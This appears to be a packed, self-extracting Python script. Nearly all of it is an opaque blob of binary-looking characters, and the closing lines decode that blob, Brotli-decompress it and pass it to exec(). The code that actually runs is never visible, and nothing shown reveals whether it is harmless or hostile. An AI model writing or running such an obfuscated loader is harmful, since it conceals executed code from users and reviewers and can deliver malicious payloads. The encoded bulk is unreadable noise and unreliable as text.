RlǍE62?V&n`6?ˉqji~4ܐk/'L]_gMu8ZtS9g~FU~Eœo&,SuY^X4)[dNU<\C֜BHhh`@zjMW9/d͓0vAB]Uw͎/'x:'%?#IQjNKWʸDaQge2xRɨŋuCߗt05BWv)X@ԔK	M}x3wufÀސK~sn.ty5q\"kO;aDDN%&mT4p=JC\r;Ĺ8ܜkSΥ$\V[*&S@oq1A/v'U97lq@Zf\~YxVwݏC|n΅4V9c!A@"k(6(9.OӸzP΢Ԅq/:TōͶelJC4zY˦M1t3*6Kv}d
9~̏qMeͺB2٩fUDhVQ4/Tx"MNx2|S׬{߇Iׂdǋ/"ǀ`ptplKzjs"յL0jw4Ǽb	\"}@`d&!(Xڹ&(4CYZۅPj4G*-&eDœA"Dl6fRr/9υ=cԏX<A%YЮiU^#y)jJPL
DxqܥX:nߓ<C <8`'YEVc[@d0C2ķcا1."K/>XXMVbs(mw'Lm:7-jz FOt$AY@^6%=LFbKrǲv#0?-ՌO-Ebڸ/}؆ u"*ita]9uq^ܖb]˻x?9Q:)Nʗ[SXR'&R
^FҼ2k __4<FjöЍ[|Ͼ)Ƨ2tAW%-r2M>5e1m>2~m?>y+"XwC#PX9S<
'rdoqp%m1/Py٢FmpgD#ICwܔ&dxΫp)9O0ɥ]=V	FlOIнj2o,AΔlOY`6ܗݺ93GCB52ÓAVqk'nrnΏ>Z+?-ߖ%b-$ЮVE/vh1}^h0
k*YXż8و+=ēO.@~Q[aL(\Ln~;ZFug2U3TRjAg6"?wse:1+FS`)`oKʔ	(w<V( 
`8ƞEZXǪ߻(dhͺʫŐ/'HZxȸY1+m57
JxZ$>W,be&˜N;ɪNP@yx8FMWRF{u"ݓ՝/\n)iwwWc	rpQq#_\(VC~'<p%AiEjmvE=@NwU0
[RjK8n4hro{zr^lW2Qǝp(J$/Ӭ8Po(b]P\w$.'Z̒0u<%j{97(ާug=ZS%jFlg>ӭ0|֊m{;Zg?]?Ϧlbb
MuxqToɴ0r6-}ʮ*؀̋xI,&R|`kha(o9%_*h
jg7d7m\]Kyf?iZSgA+3ɕ҅>׵ؼ9׻@63B,S3*Q3S\J<;:@]]ZkW]Y%W0~!@$3M@P7SUoRyDl'#y0*E	˫Q43B
Ͷ_;QJO97{8³/o:R);tw
#=kcӔ`@Vi(dQC3y˜z~5qqaic%ǄaЭGH&Lw<ejdq.QDTy6j(x[DYw=ay$؄-Fþɓ6
KO3l9ͨjYūb%s9d	vݓ d|}v҅o_ӕZ^qaʢzt6d<ZE,#מ8o{"QShoptT:u3.L$,fܣɅp"*J4rnMN)74]ů,lB=Z*7?K)'eC=/2oB('%؂[\Ѱڽ[̟&['h-s\VƩӚ
 Ho@8;SawF'r%Sڟ%SjUܐh\-KHTۈrCm_v	?]4g^[	ڤ\YEۭ?)Eac[|B%2{Jؙޖ`j`Ȩև̳H642[\ٰt`GB>΄>)Ů̲$0"5yl?KVfmW|upT8ĤVj|ُRۈ@\eKwn/&Y=_щsNkx^ۏhDU.<6Dأhm[ŵsDlo^yA6xSHܗb2hQ/nfDwHߊcuQvG	*˘٧b8$$1Bpj0ͭB$[kk_J|R3܆ի#3~Ѭ(ǹݣ)skR}|h[֦%=W8[TIiAVJ~̹?y~UzD1?=-]\ob=(9h#8qjT.52R*^`\b,ujX'|lޕVoq3hs0K\pxJ(FP[U\:`pɗ=kuTQIYlQH\	}Hո'u|t?x>~۾:hD9NJ?TgQOJCa`Bj6C=#Y
Gp#ԤǂFJ;fԷYRϿU|ݓmSv֝u_4^P%G6ŅE)̺?	"4L&VA`{Mʤr304ñģOOBF,LnYpV`Uy?stm#o4*^y2cӳG׸̌=×g!c}9kZ
Nb\QuϧԦ-D%61ZŢƑ`]\Uz9@TP=6͔	mveХG1ٙhgȪƍ>
~\X9K@f c0})0ƉOV=ǵ?RC9K$ۙ*|Q¼yD-P1E2sĕpVjZ]e?(3k1's7+x'ֵG^MDgjˆGDh ?PZõmʚq*BeIɖ:*t+r]2ǮX-řQO_aӔ\+T3DDbzN.7
/mr\FͶQRrT*Ӓdy9TEyH@ȮDsU_J}6ڢOzcګ>N*o˦`24Zs2|^/ҪY&6ߟ6!bA`]$p`e$bXԹy/BFykh7L]I]#ۻshSW._=AG?sfdXWZlo+2T[#Rd:Nf?aJs]Twײ{ڕ2'oמC ձÅ͐ה_V,Q)/et$K[1#JIOc2@RtܮV:!U3Ų]	ނ!nqc3(R0:|E/*4v{Pg#9>2a!RpeeR}bJ<w!c0@ԃg-Z­^3e(Ʒ7K
F?;$֣LVȫ-,`Hh>jNsjC8oGc`8.<Bvv,׽y3!VI6|۠ORMLBʚH 2E3G.|sҳx\n"f]ʔ9
!HUzB<p9o01+Ǧ.+I<8խG~ӅxQB_٥renN_yPW?t)djQ}ɺ+Xv&HΞ^|Җ(8IV~zY+m
lqӸRgdŴAѤn1.^xGP7Љ.A!+җu	Pf,B1+x7i(ǃ>kߔE˯ؽ
y?WőOVp38tf
y%uH&N!3KٶG/GT4/Eg2.h(=zKx;JW8M޸F<@(,4G<*u}جQXڗ֣ЈcLHЎaއ=cׯVH,< /ϷkXт:-MD0fL qh}F|QOZ1Իo3LDu	ko[WFVIXڤ)DԫΈJwF#{:N/$!/Rcfqx0ˑqMҷ)¾6o+2il+F5h+ ܟH6Q<@Аj(})lI`px@Öh{nژG@/ӉcH7lXAyAŴ$و/Bt6{h3mĽQtqV{%>CwԜ..0Gj"̹H{Ϡ5*l-YD[pv!{DJnvp@֝הp=K׿NvtzWy-NxڀӌG)j'm!=ׇ+DLy$\K3mS-|pr-H^~hMϑ2/7/ޒ;N'ڎK15Y{@=XN	+۶I&B6b~G-޳Gq&qbQ2k ,>JXx҅.]@XX5gw?ٟ"=%pYnj1ԳUO\kѼOb	rڑN}څȢm1t>wlfӼbUt܊vr},mk.W?o{/\	Pg'b%gB۝<f\q/$hbuPTkFԉc%2zJuǀAPہj!d|ynx5
\զTd7-[kP݃08IX'TܝuU`"3fz6GRNX^V6޵.{vy۪ϺMRYm͕HVB?J<Ah33"ɓ=k$!ФxLف*
Ѕ|_^;P]O=<1YI9z]ԪűytQjyvåÁkU.Q	չ|ośR8641@u8d	'ַEU9=oOUOYȔ^_{/qb`ˣx4jtc* =Bnp9}f\ſֵٻݩL>`0c d<YBۺ> \sn&Ybl9oivP@*rz\p&*."VIM7wd(Hts+mѻ;̛Ǔ@΁yJyqM:Ɣã0]Dhڡ݊:QNԱ^O	/Հ3rdHt0ɭkjbXe1@о}H~?dcNmvՏy7UTzr P´2W,:F&j̈́4E@x3*5Es\0"/jIzZC~΃a>5t!qU
ħtpXq^M\t&\|-[ٯذVwL6IՒ֕>wYyI?/7̒3V.`&=s)[q1-\ް]a5~<$Iϧؽ¦`!ޚ,'23K\B%_q9º$\Vģׯk5±4;UʣJQɋ|}!x~بb6-%Ѯك߲pIUK=ejcvLî' k@f(}J%5X4Hp6Jt`Qna) :t\#torA7"{K/ls˥\5ofi>R){cH0+<[PQ),ىw2ӯmfmi)_PK6̯Hv>'F<uk=6xY_k/073eJ@3Qޭ%Aiu[	$ߦҦ_F=5wOb#oqW\Иe%6̷*rY@0$0s^O/[EoْQ,<Aa%_}(S]!u!'ٚģ"]Y0Ҥ	5$ $cV~NCe0"dcZݲcYEEV7r:QMڒȳȑ#Dg}pN"ڠ7ʘIniK_a%nƼٻ q	E&c[fҼi9Qxl9'<ytr;]t]+5Ы(fئH;Rxm`(߄{Zj ͽ{t)DY"UmЩ?R$n2V߉?Ewb6`F_&@?\ƬPI*%ҕ71F24a<"&7o#KZoN86ʓD5q,rҵB6[בY+7wAܦ׎7;.q[ĥr!-;Y8Lͣ3B/+||yhH5qCOǇ*4+b>:fI:߇d˥Me6ʇkxyj7ƔiWaJQZyKGC+$-8<6Pv/L 	í10kـ؜u+r~D]zJǰYP+Bި2{ĠYpvT_{Y%I&˳3	'މ1@82`0uQc)	Qz=ע=,K%vlE#yˡ׮o1VLWhܿ/LXj>$%!]e'͂WȚUOkH]z0SϊCfGio(Q`AE
hZ͕Ҷ9	0zmclu{	ύYs9ABxrH~Ϸ?t.#VmNmlxtU+%&bS'sF<I~V\&#y(ɼ	{ʷI%ʬщ{͞MPNͮ>÷9хƾT[[k'wɔ!cIRadn1(3RFKZͫM_6nT<EѢմ׏A$bӠ{5RCimz:s~9`L**bIG74f=$p2yn}}uʀNFƮYnLVP<w
vfxDfμ<ڒR2D\>z<=<;b:bޜ*rI;n8x@)@VWh&|~SYĤ(?xP*FNd_hfZXˠUi4 'قF%Xqӽ6PI>3i&XjyC]n<$8Sjd};iU3U2mH]eLx("HiRt6K7Jf
8m>e=~ߵ>Ƴ	C^k1ܞĝ܍xġ̮m۾%GF
1/:Ț)O؟Bf0A|(.\w`ʸָoټG &Ie8;)³c3Dm)2#Ag{%^!&ܐ)|z	hYߜ*oTjڌrz!HΒ"wytA^dg5#)5Vjgrb3xHHߘ+=&/CS^94caD`=0I?NWZPq *#(kĔCťfRqO݋yzttOVĬ\dϣ,bsjƜ<9DI:sG)\IDɹ'F̔b6KBO	]deA7dNy=Ԧ%"ܮ!@1g->.لYѫ/8sc\g8!=S_E	w&Aeɿ=7Dyj%}κIbNc؇EPky3lA)sCj|;b4>;5C]Kt-2oG]AiD#R?0umۙ؂Ӡnsɴ,Siby	7ށU">i)>C4S12WӗְYˆShW.EBJl9btH',OVLx+HIS+mjϖcz=@2ТǌeņR8C۴}u(A@U:@Ȃrvxbz^TH=֤0hnceQB݂ӧĕ%kڰ]]I#J٦޵
Ӂ`Y3
lao:KB(bP5.h0FNUY`Jat"J~4\1jLaEku1{CZHx~W	xT6wK 8dFYp !+641G\0٨6P٭{o WXɘӛ~)CK7Ƈ3b9Td9Gfٻmeuu+#*I:0E=zj/N\NIC86yI8kUda֔ZANx7֫9Ơ[{9QmU¦ǈd[8 Dܯu1,}=-0͓k#j6ϢTuyUC*,'3VyIilF+Faڈ?ccPX͙J׷٪˾lRnE;^=+mLa}SMT2S|OӍˋGWfr1{66@v01¨PO:hˊ`Ky<[dĘ$­3+eҊMr20y8jl$;g9JR'y&rN>bLdTǀܿY{5iFE8Jx> P<#wPR3&ؗ({p.oDdU-
-N_bϋh39_"`9F`sMSvͬN!מz	!\p7Sg·$ZBsV.<9^Y<`s.nP!F$srA,Ђ)GӂCPn6y[}EFɶVh;w"dG(d/ì#˽ӵ3?;͉
M0/N0?>EȖq2f(X!(iTpHTa<Iݒ׾x4|9'"P͚nw'IYCFs-4iR%'զ<!2щ:16*q2Gj+Ք	{.B}V3<s}*
u	#q('hS9<cGt{ǒe!ߜK_ݍ0ڟ(SPJe=ۃOЕ-e$PpCY<q XHp
ƩCΠ֌E\jH^VfyƨѻZתqZ`h5X:ذ&GbVGUvu v[7ٕM:N63g/~h%2Lʐm͕>UTֳ9dQuU_&T֟JAYǪWee&<`P$1Mc/&\5f_iU"tHI0uGdoW-1eQ҂"YԠx*JX;&DQlT֒0V0r[h߷158gI3tF$$yܥaǶoZAJ`\`zAihmPnXZVI~@=ݪ,BZǭu5pĂ>bv£BHɷ"F9=7#Dj$PzڵQyFO%D׼ݶUSb{[^&oXpUj85pYGf=!ںOq>.ZE(CTxn,!D"#2yHh$(aŗ/~j7*އKi0-A-);vֲIwgESpıIoPCu
RFvg {ͮXP<q]:r`{Q@$*#t-L݊3B#mooY#ۭ
wPLFߴ8=2P5kn˄?}n§1G3L{oɐDƥ^TީNyθ[,JHx]0k,XZ6ЀMx~-P|UOiw֏>^1B.Gwg,tzЈl]7FRɹY7t@3:ȼˢyWThMRElI'yƠa#NZJŤʻxt;WEZE fE.ߑؠ*ѿwu~mRVt=m6>6=F*Xf̘k3PB  t}!̇sc-ίFt5\Zk <Ƕͮg0n~o̧I|14SZjvmFЊ
=)ϖ11,Z3=٘3Ti"ֺ-"B;Yr0>$`<RXa#TW3H[8a2"fwմHCڣuýePDv$e8fH,C̄ap^?s8zOqo=\ŧiE&|(^Xu[|7vQߝ/lmyeeEWK5cżKم0{b:=Ji=th	YKŪ׃ )o}Ԝ,uM=ri^0ǪT&ѼQ{	6; ܟ5b%7Ru|@if,y<َ(´XY%Q̈́.݉mȇv~]7+o^!4`1lR'ܕIGΘ68-V99&)J"]ZU?bmhңxHGoCйM~6 (::߷,\7ԛWa`mν6dE׆,q@N,4DIԢfW|xˈҫ^u@^hX
2&TòCxM:N7:I[q ,3:xoc<\<yeŽ$b֠'ҁi?׃taul28SYb#bB@P>;\6rɎ@5tlncẅu6̐^F]/pa{	͒Q?Tɛ,dWR,Y_]۪Hϒ~lcQPXq4"),HF:x%)j[NhvBS±
R%32Eoʻ*,'ً7oÖo0ݬK(/-lLΡہ'"?M>s|nYhS'Lr`8GAÌ_FK6Vƽ)ǜW+ܬKNty[bn,\n:zX42s-O>'RN?%SN{x,bЖ76~D0f#٧ 9WvZ`h s/~W,O#&ZaBkޏo}qG+;i֗&=K+wΜV0Ůգ[?::fn|G'w̤eWޕʊMMI)´F?	=Ei)z~)OMD83&Is>["M9M6
&jΠ*K{q\_3ސok3òՒUZ ʮ+ߜsLHjU&z4/g"cH+ڛ[(`4֌r*IC`ţQ<ʖJX<o=»G9T	kulղMNLVC2G*0#7W~Z͸l@7۞MNLb=O&|?QHȷhCb#H5֖3GӚaDg[4Y+Ͳg6%{`"w̋(=\^_Mo/!є&G֝j"EX$\ŉa_"&J̋qty}?!@^Bɼ_}&O6T	MݺEΝRv;_qν6PqX`S3pv<CwzGJ݃b/4ҶPAɐIRȃK=ũdO9:]0S3$i8kśsG(NHPw^\تN`֯ޟg~!!\+Ҫ*yFkG;{Q]6
0;qո-}ؕ	en4;Vfb:lx
7|v^tSҟ.tFڜ?[)ǫ",gf4gZۆUlW&$ړaЏfW==RSA_AtvjaK`Ϲғ9	:j9K|V	^Sii<DY/cݨ3@̜ОR'uXQ+]FNh؜&tx5"!-Q~7l82L$ǲjgG_ňKs<Dm/7XLWUzt׹k)Ӌ,x0x(;̠עI}lS[`x(8	N?*3fd9`2Ee'ݻ=z6-CǱV3|y"-O)V{i(:ǺaWlbU]X'BӢ[Zv;ef,W{KBOS}z~ri&݉J
Yt8s0X}62j ,Lnz'|<v,ryʛF)$uO\؎Fo`}Y'ʻYv1s'*ՎREڼՀRmBJ,c`Y.21D04PBϲ"L:ђއ!o#pl^f7lvig#tmIjYLnmqOgk2	7KA11ҲձzwXJXWqΘ	Ù]Vmх*N669UZ5ZvƏEr3٘jIw,uiz>r{D~2ô}/7uJK"346Ft9}֙:4C-"7,l#~U¾2܂W?{*1QǮ!JKM܅O1QQSKIv߸I!qݺ =/>Q6/Gqƫ'7|a6=~YvDD*PQf#2\hʈFN`TSiA!^(ΤzITRƤ=^ZwFc|s	RXLӤ	]?w=C4Qčwםq-(M\}/o'0kXW1KώL@v|{TeblVסm!q8XNERW&1bߠ݃iEIn8rcѸщU[bIHNA
=*NACz O8t	ɩGL}lJafB@/y`p(cՠH-bQĨ_*@Ah \IȋڃE5w׺Ѽ{9"DE>
d˂0bɰXY)hҮeQl0|x.m$CaG^k*U@R( 0*ׅZLVȸk3o,z@͍0ކv`v3.Vy!L'ռKuyl4HP;Rk6M[B͈ܭiGe!Z}8m)Q2)bݬ2Y/t@;@|4[3T2_`SF+QÄnqqƜޝD۔~evvD٧B<(~.ˢ,1k'Z80,[=˯3QƙԼ=3a\(1?m`QEЮ2=~_=,؂%N4=
)_`e:@ETP/Սٮt.Iͪ&q@81Cz9ѶSF`.Ya%ThY]!NZ;h~^}­3yǍhMonn(@1eGK1!$IoCfoĻB؞rY[˦8Б3@F@;yug&҇)[ MXG< %KqĦiZ;sP+ӥ,>d>t~<Nώpd5Gx${rJ	iQmr>l˛KƠ[xل<obrLTR0apTa~.$*fg CĥPxSU[Eb+~;'6kd2~3
kNMKBژ_%5:{	ʍ?$x<<Ɣ&_RLdLWAa17ے04Ea(M]yn1Ew=W*ڳ;kP.I_ݐ@zݙ5coY#36͠9<0Cc$)ӏwk+GCQMdj~lrWSɋ/߽eֽٷSյK
XrQM<b"E:.ˮ;:[l~AnS'*kqv.hR;.HB#"t
?I#sȤmuIիjΔ7Z_7YɞW<~N˅hub_LήYVXڠ2H[Zڴ[%^3eLWc; 1'jzޑJۿd#[v4=w^ҞjΡ[XДHwgz^*&Hbǂ.SXyc:;bӬd
<[Eb?qy.&v1,qm˶@הo+bà1
Bن3w2aUj	E!#yV(fl]O%S=TJeB0h_xŲ6yDnׯl*?E)\d\%@ XYjp+'dBC4Sg"X}޿/+p	]M)<גj0ʕ~nŢȭ9x%r"o4BcZ0Ǌ|ßӔY4FsRJ.dJg!ZdG?orTހZ~"@XF(:JPo#]xU3+u~`ǦwUhg_IBs^[Q(`btݮݏk)y^M^&Z_]Xv+}CȦfQƧAM[RS6	lȼ[AxɅSTT@<n.3YӄƤ]7?Q͠*l]0Oˡb}u^ܞ	X?յϸӚDJ~auGϝȝ?*%o~liv(Tl+'@В ٵRY+E\}U/hzPIOWoȻtƒݗ,~0ѻ^S[Ф]%Ζ.A>>>Doa5=7Mv.\'1׍Ѭ+G'vMD>JBnHukż̔`A҇Кș`h4Ҭ	<_||gFwQs6ς
7K^f.&R8ruBa֌fZJhONDo6{q9Or=Gj&pNՆDr@7?R΄jmE8q{*QޒMřgӌ%"kun5:r׉bGAƿlW>X2ܽsӭ>(*քh`3'wx3O7grԐ+9v|s`pɣ'J:v:eU(V1Y<#֨v+U,l|Ţvc}FON~A}|9d4#@!"fteMw6AnXc&ka|zrїȍǹxt֑?j_oaD4`;D)ʚ}gU͐AS	U|Ih-HHХŽ/m{]pť82*ĨTx{|%ՋC`-sg?<"xAL)*<2@TXY,uwnДM
8p\X0_pњ/q_{RxFZg74!f@ɢvpL>QTnx`~6W:_[ݩ|6v.Vݴ'au	Y=62tg2}#NTOxRǉ.<L<Bݩ[P	1٢wӮRKG.%f_G0`lݿ<\PGoSDBu#+$s.7R&Jy
aa޳}52frI?.LP!VO?}\ZlϱdܭW#Z1*/жssg?T(/7$JA+jՇϼȭC@ʬaMa)#ƲB}@(ϟH&PlV2*/|''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25394)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
